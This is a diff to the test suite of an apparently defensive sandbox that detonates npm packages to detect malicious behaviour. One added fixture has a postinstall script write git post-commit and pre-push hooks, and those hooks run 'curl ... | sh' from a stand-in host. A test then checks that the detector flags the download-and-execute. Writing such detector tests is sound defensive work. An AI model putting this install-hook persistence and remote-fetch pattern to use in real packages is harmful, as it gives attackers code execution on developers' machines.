@@ -131,6 +131,32 @@ describe("detonatePackage", () => {
     expect(details.some((detail) => detail.includes("from made"))).toBe(true);
   });
 
+  test("starts the hooks of git that an install wrote, as the next commit would", async () => {
+    const { triggers, findings } = await detonate({
+      "package.json": manifest({ scripts: { postinstall: "node setup.js" } }),
+      "setup.js": `
+        const path = require("path");
+        const hooks = path.resolve(__dirname, "../../.git/hooks");
+        for (const name of ["post-commit", "pre-push"])
+          require("fs").writeFileSync(path.join(hooks, name), "#!/bin/sh\\nnode node_modules/sample/stage.js\\n");`,
+      "stage.js": `require("child_process").exec("curl -s https://collector.invalid/x | sh");`,
+    });
+
+    expect(findings.map(({ id }) => id)).toContain("download-executed");
+    for (const { observations } of triggers[0]?.worlds ?? []) {
+      expect(observations.filter(({ api }) => api === "child_process.exec")).toHaveLength(1);
+    }
+  });
+
+  test("starts no hook that was there before", async () => {
+    const { triggers } = await detonate({
+      "package.json": manifest({ scripts: { postinstall: "node setup.js" } }),
+      "setup.js": `require("fs").readdirSync(process.env.INIT_CWD + "/.git/hooks");`,
+    });
+
+    expect(triggers[0]?.worlds[0]?.observations.filter(({ kind }) => kind === "process")).toEqual([]);
+  });
+
   test("calls what an entry exports where that is wanted, with a secret that is seen to leave", async () => {
     const files = {
       "package.json": manifest({ main: "index.js" }),
